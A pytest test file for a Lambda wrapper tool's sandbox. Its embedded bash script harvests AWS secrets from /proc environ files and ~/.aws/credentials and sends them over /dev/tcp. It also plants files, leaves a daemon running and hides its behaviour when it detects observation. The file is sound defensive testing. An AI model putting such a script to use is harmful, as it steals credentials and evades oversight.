"""Everything wrapgen runs that it did not write runs in the sandbox (wrapgen.local.sandbox): a hostile script run
through explain, explain A B, attach's chain check, try and --verify-with reaches neither the operator's
credentials (its ancestors' /proc/PID/environ, ~/.aws/credentials) nor the network (a listener on 127.0.0.1) nor
the operator's files (markers in $HOME, in the working directory, in a directory it knows), leaves no process
behind, and gets the verdict it earns, since nothing tells it it is observed. Each route's control runs the same
script with --no-sandbox, where every one of those succeeds: the test can fail.

Also: `wrapgen check` runs nothing a manifest names; a manifest's paths stay in its directory; try is bounded;
and where no sandbox can be made, wrapgen says so in one line and runs nothing."""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from conftest import REGION, WRAPGEN, Moto, running, token

pytestmark = pytest.mark.sandbox

CANARY_ENV = "canary-in-the-environment-31337"
CANARY_FILE = "canary-in-the-credentials-file-4242"

HOSTILE = r"""#!/bin/bash
loot=""
for f in /proc/[0-9]*/environ; do
    loot+=$(tr '\0' '\n' < "$f" 2>/dev/null | grep -a canary)
done
loot+=$(cat "$HOME/.aws/credentials" {home}/.aws/credentials 2>/dev/null)
{{ printf '%s\n' "stolen:$loot" > /dev/tcp/127.0.0.1/{port}; }} 2>/dev/null
for dir in "$HOME" "$PWD" {known}; do
    echo owned > "$dir/{marker}" 2>/dev/null
done
setsid sleep {sleep} < /dev/null > /dev/null 2>&1 &
sleep 0.5  # time for the daemon to be in a session of its own
if env | grep '^WRAPGEN_' | grep -vq '^WRAPGEN_CHAIN_'; then
    exec "$@"  # looks harmless while wrapgen is watching (it once said so in WRAPGEN_EXPLAIN_RECORD)
fi
exit 3
"""


@dataclass
class Listener:
    """A TCP server on 127.0.0.1 that keeps what it is sent."""

    port: int = 0
    received: list[bytes] = field(default_factory=list)


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(16)
    server.settimeout(0.2)
    found = Listener(server.getsockname()[1])
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                client, _ = server.accept()
            except OSError:
                continue
            with client:
                client.settimeout(2)
                data = b""
                try:
                    while chunk := client.recv(65536):
                        data += chunk
                except OSError:
                    pass
                found.received.append(data)

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield found
    stop.set()
    thread.join(5)
    server.close()


@dataclass
class Attack:
    script: Path
    home: Path
    known: Path
    sleep: str
    listener: Listener
    env: dict[str, str]

    def leaks(self) -> dict[str, object]:
        """What got out: the data the listener got, the markers written, the processes left running."""
        time.sleep(0.3)  # the listener's last connection, a process's last breath
        markers = [str(p) for d in (self.home, self.known, self.script.parent) for p in d.glob("marker*")]
        left = running(self.sleep)
        for pid in left:
            os.kill(pid, signal.SIGKILL)
        return {"received": b"".join(self.listener.received), "markers": markers, "left": left}

    def assert_contained(self) -> None:
        assert self.leaks() == {"received": b"", "markers": [], "left": []}

    def assert_held(self, sandboxed: bool) -> None:
        """Contained in the sandbox; escaped without it (the control)."""
        if sandboxed:
            self.assert_contained()
        else:
            self.assert_escaped()

    def assert_escaped(self) -> None:
        """The control: without the sandbox, every attempt succeeds."""
        found = self.leaks()
        assert CANARY_ENV.encode() in found["received"], found  # type: ignore[operator]
        assert CANARY_FILE.encode() in found["received"], found  # type: ignore[operator]
        assert found["markers"] and found["left"], found


@pytest.fixture
def attack(tmp_path: Path, listener: Listener) -> Attack:
    home = tmp_path / "home"
    (home / ".aws").mkdir(parents=True)
    (home / ".aws" / "credentials").write_text(f"[default]\naws_secret_access_key = {CANARY_FILE}\n")
    known = tmp_path / "known"
    known.mkdir()
    work = tmp_path / "work"
    work.mkdir()
    sleep = token()
    script = work / "hostile"
    script.write_text(HOSTILE.format(home=home, port=listener.port, known=known, marker="marker", sleep=sleep))
    script.chmod(0o755)
    env = {**os.environ, "HOME": str(home), "AWS_SECRET_ACCESS_KEY": CANARY_ENV, "AWS_SESSION_TOKEN": CANARY_ENV,
           "AWS_ACCESS_KEY_ID": "AKIA" + CANARY_ENV}  # fmt: skip
    for name in [name for name in env if name.startswith("WRAPGEN_")]:  # the cloak's trigger (WRAPGEN_TEST_WORKERS)
        del env[name]
    return Attack(script, home, known, sleep, listener, env)


def wrapgen(attack: Attack, *args: str | Path, timeout: int = 120) -> subprocess.CompletedProcess[str]:
    """wrapgen run by the operator: in the working directory beside the script, with the canaries in its
    environment (so in /proc/PID/environ) and a HOME holding them."""
    return subprocess.run([*WRAPGEN, *map(str, args)], capture_output=True, text=True, env=attack.env,
                          cwd=attack.script.parent, timeout=timeout, check=False)  # fmt: skip


def test_the_hostile_script_cloaks_itself_when_it_sees_a_wrapgen_variable(tmp_path: Path, attack: Attack) -> None:
    """What the cloak does, run by hand: with a WRAPGEN_ variable it passes the command line on; without, it
    fails the function."""
    seen = tmp_path / "seen"
    argv = [str(attack.script), "/bin/bash", "-c", f"echo started > {seen}"]
    subprocess.run(argv, env={**attack.env, "WRAPGEN_EXPLAIN_RECORD": "x"}, timeout=30, check=True)
    assert seen.read_text() == "started\n"
    seen.unlink()
    assert subprocess.run(argv, env=attack.env, timeout=30, check=False).returncode == 3 and not seen.exists()
    attack.assert_escaped()


@pytest.mark.parametrize("sandboxed", [True, False], ids=["sandbox", "control"])
def test_explain(attack: Attack, sandboxed: bool) -> None:
    result = wrapgen(attack, "explain", attack.script, "--family", "python", "--runtime", "python3.12",
                     "--format", "json", *([] if sandboxed else ["--no-sandbox"]))  # fmt: skip
    assert result.returncode == 1, result.stderr
    outcome = json.loads(result.stdout)[0]
    assert outcome["breaks"] and outcome["exit_status"] == 3  # the verdict it earns: it never starts the runtime
    assert all(not name.startswith("WRAPGEN_") for name in outcome["environment"])
    attack.assert_held(sandboxed)


@pytest.mark.parametrize("sandboxed", [True, False], ids=["sandbox", "control"])
def test_explain_a_chain_with_it_second(tmp_path: Path, attack: Attack, sandboxed: bool) -> None:
    ours = tmp_path / "ours"
    assert subprocess.run([*WRAPGEN, "python", "--flag", "-X importtime", "-o", str(ours)], check=False).returncode == 0
    result = wrapgen(attack, "explain", ours, attack.script, "--runtime", "python3.12", "--format", "json",
                     *([] if sandboxed else ["--no-sandbox"]))  # fmt: skip
    assert result.returncode == 1, result.stderr
    outcome = json.loads(result.stdout)[0]
    assert outcome["breaks"] and outcome["steps"][1]["after"] is None
    attack.assert_held(sandboxed)


@pytest.mark.parametrize("sandboxed", [True, False], ids=["sandbox", "control"])
def test_verify_with(tmp_path: Path, attack: Attack, sandboxed: bool) -> None:
    result = wrapgen(attack, "python", "--flag", "-X importtime", "--verify-with", attack.script, "-o",
                     tmp_path / "w", *([] if sandboxed else ["--no-sandbox"]))  # fmt: skip
    assert result.returncode == 1 and "it refused to start (exit 3)" in result.stderr, result.stderr
    assert not (tmp_path / "w").exists()
    attack.assert_held(sandboxed)


@pytest.mark.parametrize("sandboxed", [True, False], ids=["sandbox", "control"])
def test_try(tmp_path: Path, attack: Attack, sandboxed: bool) -> None:
    code = tmp_path / "code"
    code.mkdir()
    (code / "app.py").write_text("def handler(event, context):\n    return event\n")
    (tmp_path / "event.json").write_text("{}")
    result = wrapgen(attack, "try", attack.script, "--runtime", "python3.12", "--handler", "app.handler", "--event",
                     tmp_path / "event.json", "--code", code, "--format", "json",
                     *([] if sandboxed else ["--no-sandbox"]))  # fmt: skip
    assert result.returncode == 1, result.stderr
    report = json.loads(result.stdout)
    assert report["outcome"] == "exit" and report["exit_status"] == 3, report
    attack.assert_held(sandboxed)


@dataclass
class Fleet:
    """A function whose own wrapper (AWS_LAMBDA_EXEC_WRAPPER) is the hostile script, in a vendor's layer; and
    wrapgen's node layer, published, to attach to it (zips and scripts kept for --layer-zip and --explain-with)."""

    name: str
    ours: str
    ours_zip: Path
    ours_script: Path
    vendor_zip: Path

    def variables(self, moto: Moto) -> dict[str, str]:
        config = moto.client("lambda").get_function_configuration(FunctionName=self.name)
        return dict(config["Environment"]["Variables"])


WRAPPER_VARIABLE = {"AWS_LAMBDA_EXEC_WRAPPER": "/opt/vendor/wrapper"}


def moto_environment(moto: Moto) -> dict[str, str]:
    """wrapgen's boto3 pointed at the moto server, and at nothing of this machine's AWS set-up."""
    return {"AWS_ENDPOINT_URL": moto.url, "AWS_DEFAULT_REGION": REGION, "AWS_CONFIG_FILE": os.devnull,
            "AWS_SHARED_CREDENTIALS_FILE": os.devnull, "AWS_EC2_METADATA_DISABLED": "true"}  # fmt: skip


def _fleet(tmp_path: Path, attack: Attack, moto: Moto) -> Fleet:
    import uuid

    from test_aws import executables_zip, role

    attack.env.update(moto_environment(moto))
    attack.env.pop("AWS_PROFILE", None)
    ours_zip, ours_script = tmp_path / "ours.zip", tmp_path / "ours"
    made = wrapgen(attack, "node", "--flag", "--trace-warnings", "--layer", ours_zip, "-o", ours_script)
    assert made.returncode == 0, made.stderr
    published = wrapgen(attack, "publish", ours_zip, "--layer-name", f"wrapgen-{uuid.uuid4().hex[:8]}")
    assert published.returncode == 0, published.stderr
    vendor_zip = tmp_path / "vendor.zip"
    vendor_zip.write_bytes(executables_zip({"vendor/wrapper": attack.script.read_text()}))
    lam = moto.client("lambda")
    vendor = lam.publish_layer_version(LayerName=f"vendor-{uuid.uuid4().hex[:8]}",
                                       Content={"ZipFile": vendor_zip.read_bytes()})["LayerVersionArn"]  # fmt: skip
    name = f"fn-{uuid.uuid4().hex[:8]}"
    code = executables_zip({"index.js": "exports.handler = async () => 1;"})
    lam.create_function(FunctionName=name, Runtime="nodejs20.x", Role=role(moto), Handler="index.handler",
                        Code={"ZipFile": code}, Layers=[vendor],
                        Environment={"Variables": WRAPPER_VARIABLE})  # fmt: skip
    return Fleet(name, published.stdout.strip(), ours_zip, ours_script, vendor_zip)


@pytest.mark.parametrize(
    "mode",
    [("--layer-zip",), ("--layer-zip", "--dry-run"), ("--explain-with",), ("--layer-zip", "--no-sandbox")],
    ids=["layer-zip", "dry-run", "explain-with", "control"],
)
def test_attach(tmp_path: Path, attack: Attack, moto: Moto, mode: tuple[str, ...]) -> None:
    """The hostile wrapper is the function's own (in a vendor's layer): attach checks our wrapper, then it."""
    fleet = _fleet(tmp_path, attack, moto)
    if "--explain-with" in mode:
        given = ["--explain-with", fleet.ours_script, "--explain-with", attack.script]
    else:
        given = ["--layer-zip", fleet.ours_zip, "--layer-zip", fleet.vendor_zip, *mode[1:]]
    result = wrapgen(attack, "attach", "--function", fleet.name, "--layer", fleet.ours, *given)
    assert result.returncode == 1 and "would break the function on nodejs20.x" in result.stdout, result.stdout
    attack.assert_held("--no-sandbox" not in mode)
    assert fleet.variables(moto) == WRAPPER_VARIABLE  # refused: nothing changed


def test_attach_without_a_sandbox_says_not_checked(tmp_path: Path, attack: Attack, moto: Moto) -> None:
    """Where no sandbox can be made, attach runs nothing and says the chain is not checked (then attaches, as for
    any chain it cannot check)."""
    fleet = _fleet(tmp_path, attack, moto)
    attack.env["PATH"] = _path_without_bwrap(tmp_path)
    result = wrapgen(attack, "attach", "--function", fleet.name, "--layer", fleet.ours, "--layer-zip", fleet.ours_zip,
                     "--layer-zip", fleet.vendor_zip)  # fmt: skip
    assert result.returncode == 0, result.stdout + result.stderr
    assert "not checked: no sandbox (no sandbox: bwrap (bubblewrap) is not installed)" in result.stdout, result.stdout
    attack.assert_contained()
    assert fleet.variables(moto)["WRAPGEN_THEN"] == "/opt/vendor/wrapper"


def _path_without_bwrap(tmp_path: Path) -> str:
    """A PATH with every program of this one's but bwrap."""
    bin_dir = tmp_path / "bin-without-bwrap"
    bin_dir.mkdir(exist_ok=True)
    for directory in os.environ["PATH"].split(os.pathsep):
        for program in Path(directory).glob("*") if Path(directory).is_dir() else ():
            target = bin_dir / program.name
            if program.name != "bwrap" and not target.exists() and os.access(program, os.X_OK):
                target.symlink_to(program)
    return str(bin_dir)


def test_without_bwrap_nothing_runs_and_no_sandbox_is_named(tmp_path: Path, attack: Attack) -> None:
    attack.env["PATH"] = _path_without_bwrap(tmp_path)
    explain = ["explain", attack.script, "--family", "python", "--runtime", "python3.12"]
    verify = ["python", "--flag", "-X importtime", "--verify-with", attack.script, "-o", tmp_path / "w"]
    for args, status in ((explain, 2), (verify, 1)):  # explain could not check: 2
        result = wrapgen(attack, *args)
        assert (result.returncode, result.stdout) == (status, "")
        assert result.stderr.startswith("error: no sandbox: bwrap (bubblewrap) is not installed (") and \
            "--no-sandbox" in result.stderr and result.stderr.count("\n") == 1, result.stderr  # fmt: skip
    attack.assert_contained()  # nothing ran
    assert not (tmp_path / "w").exists()
    result = wrapgen(attack, "explain", attack.script, "--family", "python", "--runtime", "python3.12", "--no-sandbox")
    assert result.returncode == 1 and "BREAKS" in result.stdout
    attack.assert_escaped()


def test_where_user_namespaces_are_refused_nothing_runs(attack: Attack) -> None:
    """wrapgen itself in a bubblewrap whose user namespaces are disabled: its own sandbox cannot be made."""
    outer = ["bwrap", "--unshare-user", "--disable-userns", "--dev-bind", "/", "/", "--"]
    explain = [*WRAPGEN, "explain", str(attack.script), "--family", "python", "--runtime", "python3.12"]
    result = subprocess.run([*outer, *explain], capture_output=True, text=True, env=attack.env, timeout=60, check=False)
    assert (result.returncode, result.stdout) == (2, "")
    assert result.stderr.startswith("error: no sandbox could be made here: bwrap: ") and "--no-sandbox" in result.stderr
    assert result.stderr.count("\n") == 1
    attack.assert_contained()


# wrapgen check, the CI gate, runs nothing; build runs a manifest's programs only in the sandbox.

MARKING = {"x": "#!/bin/bash\necho ran > {marker}\nexit 0\n", "next": '#!/bin/bash\necho ran > {marker}\nexec "$@"\n'}


def _repository(tmp_path: Path) -> tuple[Path, Path]:
    """A checkout whose manifest names a verify-with program and a then of its own, explained; built once."""
    repo = tmp_path / "repo"
    repo.mkdir()
    marker = tmp_path / "ran"
    for name, text in MARKING.items():
        (repo / name).write_text(text.format(marker=marker))
        (repo / name).chmod(0o755)
    (repo / "wrapgen.toml").write_text(
        '[wrapper.a]\nfamily = "python"\nflag = ["-X importtime"]\noutput = "build/a"\nverify-with = "./x"\n\n'
        f'[wrapper.b]\nfamily = "python"\nflag = ["-X dev"]\noutput = "build/b"\nexplain = true\nthen = "{repo}/next"\n'
    )
    return repo, marker


def test_check_runs_nothing_the_manifest_names(tmp_path: Path) -> None:
    repo, marker = _repository(tmp_path)
    built = subprocess.run([*WRAPGEN, "build", "--no-sandbox"], cwd=repo, capture_output=True, text=True, check=False)
    assert built.returncode == 0, built.stderr
    assert marker.exists()  # the control: outside the sandbox, ./x ran (and wrote where it could)
    marker.unlink()
    for _ in range(2):
        checked = subprocess.run([*WRAPGEN, "check"], cwd=repo, capture_output=True, text=True, check=False)
        # b's chain: 9 python shims and chain.json beside it
        assert checked.returncode == 0 and checked.stderr == "wrapgen check: 12 file(s) up to date\n", checked.stderr
        (repo / "build" / "b").write_text((repo / "build" / "b").read_text() + "# edited\n")
        checked = subprocess.run([*WRAPGEN, "check"], cwd=repo, capture_output=True, text=True, check=False)
        assert checked.returncode == 1 and "build/b: hand-edited" in checked.stdout, checked.stdout
        assert subprocess.run([*WRAPGEN, "build"], cwd=repo, capture_output=True, check=False).returncode == 0
    assert not marker.exists()  # check never ran it, and build ran it in the sandbox, where it cannot write here


def test_build_runs_the_manifests_programs_only_in_the_sandbox(tmp_path: Path, attack: Attack) -> None:
    repo = attack.script.parent
    (repo / "wrapgen.toml").write_text(
        '[wrapper.a]\nfamily = "python"\nflag = ["-X importtime"]\noutput = "w"\nverify-with = "./hostile"\n'
    )
    for args in (["build"], ["build", "--dry-run"]):
        result = wrapgen(attack, *args)
        assert result.returncode == 1 and "it refused to start (exit 3)" in result.stderr, result.stderr
        attack.assert_contained()
    assert not (repo / "w").exists()


@pytest.mark.parametrize(
    ("key", "value"),
    [("output", "/tmp/wrapgen-outside/w"), ("layer", "../outside.zip"), ("output", "link/w"),
     ("include", "../secret=wrapgen/secret"), ("include-exec", "link/tool=bin/tool"), ("stdout", "../out.tf")],
    ids=["absolute", "dot-dot", "symlinked-directory", "include", "include-exec", "stdout"],
)  # fmt: skip
def test_manifest_paths_stay_in_its_directory(tmp_path: Path, key: str, value: str) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "tool").write_text("#!/bin/bash\n")
    (tmp_path / "secret").write_text("id_rsa\n")
    (repo / "link").symlink_to(outside)  # a committed symlink to elsewhere on the machine
    extra = {"stdout": 'via = "env"\n', "include": 'layer = "l.zip"\n', "include-exec": 'layer = "l.zip"\n'}
    text = f'[wrapper.e]\nfamily = "python"\nflag = ["-X importtime"]\n{extra.get(key, "")}'
    text += f"{key} = {json.dumps([value] if key.startswith('include') else value)}\n"
    (repo / "wrapgen.toml").write_text(text)
    before = sorted(p.name for p in tmp_path.rglob("*"))
    for command in (["build"], ["build", "--dry-run"], ["check"]):
        result = subprocess.run([*WRAPGEN, *command], cwd=repo, capture_output=True, text=True, check=False)
        assert (result.returncode, result.stdout) == (1, ""), result.stderr
        path = value.rpartition("=")[0] if key.startswith("include") else value
        assert result.stderr.startswith(f"error: wrapgen.toml: [wrapper.e] {key}: {path} is outside the manifest's"
                                        " directory ("), result.stderr  # fmt: skip
        assert "allow-paths-outside = true" in result.stderr and result.stderr.count("\n") == 1
    assert sorted(p.name for p in tmp_path.rglob("*")) == before and not Path("/tmp/wrapgen-outside").exists()
    (repo / "wrapgen.toml").write_text("allow-paths-outside = true\n" + text)  # the opt-in, said in the manifest
    result = subprocess.run([*WRAPGEN, "build"], cwd=repo, capture_output=True, text=True, check=False)
    shutil.rmtree("/tmp/wrapgen-outside", ignore_errors=True)
    assert "outside the manifest's directory" not in result.stderr


# try is bounded: what it reads, holds and leaves running.


def _try(tmp_path: Path, handler: str, event: str | Path, *args: str) -> tuple[subprocess.CompletedProcess[str], int]:
    """wrapgen try of a python function, and wrapgen's own peak memory (VmHWM, kB) while it ran."""
    code = tmp_path / "code"
    code.mkdir(exist_ok=True)
    (code / "app.py").write_text(handler)
    wrapper = tmp_path / "w"
    if not wrapper.exists():
        assert subprocess.run([*WRAPGEN, "python", "--flag", "-X dev", "-o", str(wrapper)], check=False).returncode == 0
    process = subprocess.Popen([*WRAPGEN, "try", str(wrapper), "--runtime", "python3.12", "--handler", "app.handler",
                                "--event", str(event), "--code", str(code), "--compare", "1", *args],
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                               stdin=subprocess.DEVNULL)  # fmt: skip
    peak = 0
    reader = threading.Thread(target=lambda: setattr(process, "out", process.communicate(timeout=300)))
    reader.start()
    while reader.is_alive():
        try:
            status = Path(f"/proc/{process.pid}/status").read_text()
            peak = max(peak, int(status.split("VmHWM:")[1].split()[0]))
        except (OSError, IndexError):
            pass
        time.sleep(0.02)
    reader.join()
    out, err = process.out  # type: ignore[attr-defined]
    return subprocess.CompletedProcess(process.args, process.returncode, out, err), peak


@pytest.mark.parametrize(
    ("event", "said"),
    [("big", "6291457 bytes, over Lambda's limit for a synchronous invocation (6291456 bytes)"),
     ("/dev/zero", "not a regular file"), ("fifo", "not a regular file"),
     ("nested", "nested deeper than wrapgen's JSON reader takes")],
    ids=["7-MB", "dev-zero", "fifo", "nested"],
)  # fmt: skip
def test_try_refuses_an_event_lambda_would_not_take_in_one_line(tmp_path: Path, event: str, said: str) -> None:
    path = Path(event) if event.startswith("/") else tmp_path / event
    if event == "big":
        path.write_bytes(b'"' + b"x" * (6 * 1024 * 1024 - 1) + b'"')
    elif event == "fifo":
        os.mkfifo(path)
    elif event == "nested":
        path.write_text("[" * 100_000 + "]" * 100_000)
    result, peak = _try(tmp_path, "def handler(event, context):\n    return 1\n", path)
    assert (result.returncode, result.stdout) == (1, ""), result.stderr
    assert result.stderr == f"error: --event {path}: {said}\n"
    assert peak < 150 * 1024


def test_try_holds_what_the_function_prints_and_answers_to_a_bound(tmp_path: Path) -> None:
    (tmp_path / "event.json").write_text("{}")
    loud = ("import sys\ndef handler(event, context):\n    chunk = '\\x1b[31mx' * (1 << 20)\n    for _ in range(100):\n"
            "        sys.stdout.write(chunk)\n    sys.stdout.flush()\n    return 1\n")  # fmt: skip
    result, peak = _try(tmp_path, loud, tmp_path / "event.json")
    assert result.returncode == 0, result.stderr
    assert "\x1b" not in result.stdout and "\\x1b[31m" in result.stdout  # shown escaped
    assert "more bytes not kept]" in result.stdout and len(result.stdout) < 2 * 1024 * 1024
    assert peak < 150 * 1024, peak
    large = "def handler(event, context):\n    return 'x' * (300 * 1024 * 1024)\n"
    result, peak = _try(tmp_path, large, tmp_path / "event.json", "--format", "json")
    report = json.loads(result.stdout)
    assert result.returncode == 1 and report["error"]["type"] == "Function.ResponseSizeTooLarge", report["error"]
    assert peak < 150 * 1024, peak


def test_try_leaves_no_daemon_of_the_function(tmp_path: Path) -> None:
    sleep = token()
    (tmp_path / "event.json").write_text("{}")
    daemon = ("import subprocess\ndef handler(event, context):\n"
              f"    subprocess.Popen(['sleep', '{sleep}'], start_new_session=True)\n    return 1\n")  # fmt: skip
    result, _ = _try(tmp_path, daemon, tmp_path / "event.json")
    assert result.returncode == 0, result.stderr
    assert running(sleep) == []
    result, _ = _try(tmp_path, daemon, tmp_path / "event.json", "--no-sandbox")  # the control
    left = running(sleep)
    for pid in left:
        os.kill(pid, signal.SIGKILL)
    assert result.returncode == 0 and left


def test_attach_checks_the_chain_with_the_functions_layers_at_opt(tmp_path: Path, moto: Moto) -> None:
    """A vendor's wrapper that sources a file of its own layer and runs a tool of another: in the sandbox, /opt
    holds the function's layers as Lambda unpacks them, so the chain is checked as it runs there. (Checked with
    local copies of the scripts alone, --explain-with, the vendor's wrapper misses its layer's file: not checked,
    rather than a verdict on a chain that is not what runs.)"""
    import uuid

    from test_aws import executables_zip, role

    env = {**os.environ, **moto_environment(moto), "AWS_ACCESS_KEY_ID": "testing", "AWS_SECRET_ACCESS_KEY": "testing"}
    env.pop("AWS_PROFILE", None)

    def cli(*args: str | Path) -> subprocess.CompletedProcess[str]:
        return subprocess.run([*WRAPGEN, *map(str, args)], capture_output=True, text=True, env=env, timeout=120,
                              check=False)  # fmt: skip

    lam = moto.client("lambda")
    ours_zip, ours_script = tmp_path / "ours.zip", tmp_path / "ours"
    assert cli("node", "--flag", "--trace-warnings", "--layer", ours_zip, "-o", ours_script).returncode == 0
    ours = cli("publish", ours_zip, "--layer-name", f"wrapgen-{uuid.uuid4().hex[:8]}").stdout.strip()
    wrapper = '#!/bin/bash\n. /opt/vendor/lib.sh || exit 5\n/opt/extra/bin/tool || exit 6\nexec "$@"\n'
    zips = {"vendor": {"vendor/wrapper": wrapper, "vendor/lib.sh": "VENDOR=1\n"},
            "extra": {"extra/bin/tool": "#!/bin/bash\nexit 0\n"}}  # fmt: skip
    arns = []
    for name, files in zips.items():
        (tmp_path / f"{name}.zip").write_bytes(executables_zip(files))
        answer = lam.publish_layer_version(LayerName=f"{name}-{uuid.uuid4().hex[:8]}",
                                           Content={"ZipFile": (tmp_path / f"{name}.zip").read_bytes()})  # fmt: skip
        arns.append(answer["LayerVersionArn"])
    (tmp_path / "vendor-wrapper").write_text(wrapper)
    (tmp_path / "vendor-wrapper").chmod(0o755)
    given = {
        "layer-zip": ["--layer-zip", ours_zip, "--layer-zip", tmp_path / "vendor.zip", "--layer-zip",
                      tmp_path / "extra.zip"],
        "explain-with": ["--explain-with", ours_script, "--explain-with", tmp_path / "vendor-wrapper"],
    }  # fmt: skip
    for how, args in given.items():
        name = f"fn-{uuid.uuid4().hex[:8]}"
        lam.create_function(FunctionName=name, Runtime="nodejs20.x", Role=role(moto), Handler="index.handler",
                            Code={"ZipFile": executables_zip({"index.js": "exports.handler = async () => 1;"})},
                            Layers=arns, Environment={"Variables": WRAPPER_VARIABLE})  # fmt: skip
        result = cli("attach", "--function", name, "--layer", ours, "--dry-run", *args)
        if how == "layer-zip":
            assert result.returncode == 0 and "wrapper chain checked: ok" in result.stdout, result.stdout
        else:
            assert result.returncode == 0 and "not checked: it looks for '/opt/vendor/lib.sh'" in result.stdout, (
                result.stdout
            )


def test_layers_unpack_at_opt_and_nowhere_else(tmp_path: Path) -> None:
    """A layer's symbolic link is left out (a later layer's file would be written through it, out of /opt); a
    member named with .. is refused; a later layer's file replaces an earlier one's, as on Lambda."""
    import io
    import zipfile

    from wrapgen.errors import WrapgenError
    from wrapgen.local.optdir import unpack

    outside = tmp_path / "outside"
    outside.mkdir()

    def layer(members: dict[str, tuple[str, int]]) -> bytes:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            for name, (text, mode) in members.items():
                info = zipfile.ZipInfo(name)
                info.external_attr, info.create_system = mode << 16, 3
                archive.writestr(info, text)
        return buffer.getvalue()

    first = layer({"a": (str(outside), 0o120777), "bin/tool": ("one", 0o100755), "lib/x": ("x", 0o104755)})
    second = layer({"a/file": ("through the link?", 0o100644), "bin/tool": ("two", 0o100644)})
    opt = tmp_path / "opt"
    unpack([("first", first), ("second", second)], str(opt))
    assert list(outside.iterdir()) == []
    assert (opt / "a").is_dir() and not (opt / "a").is_symlink()
    assert (opt / "a" / "file").read_text() == "through the link?"
    assert (opt / "bin" / "tool").read_text() == "two" and (opt / "bin" / "tool").stat().st_mode & 0o7777 == 0o644
    assert (opt / "lib" / "x").stat().st_mode & 0o7777 == 0o755  # no setuid
    with pytest.raises(WrapgenError, match=r"third: member '\.\./escape': not a path inside /opt"):
        unpack([("third", layer({"../escape": ("x", 0o100644)}))], str(tmp_path / "opt2"))
    assert not (tmp_path / "escape").exists()


def test_the_sandbox_bounds_memory_and_time() -> None:
    """A program that takes 2.5 GB of data fails in the sandbox (2 GB); the same runs outside (the control). One
    that does not end is ended at its time, with what it started."""
    import sys

    from wrapgen.local import children, sandbox

    hog = ["-c", "x = bytearray(5 * 2**29); print(len(x))"]
    layout = sandbox.Layout(True)
    python = layout.expose_installation(sys.executable)
    ran = sandbox.run(layout, [python, *hog], {"PATH": "/usr/bin:/bin"}, 60, "/tmp")
    assert ran.returncode != 0 and b"MemoryError" in ran.stderr, ran
    assert children.run([sys.executable, *hog], dict(os.environ), 60).returncode == 0  # no bound: it runs
    sleep = token()
    started = time.monotonic()
    ran = sandbox.run(layout, ["/bin/bash", "-c", f"setsid sleep {sleep} & sleep {sleep}"], {}, 1, "/tmp")
    assert ran.timed_out and ran.stopped and time.monotonic() - started < 10
    assert running(sleep) == []
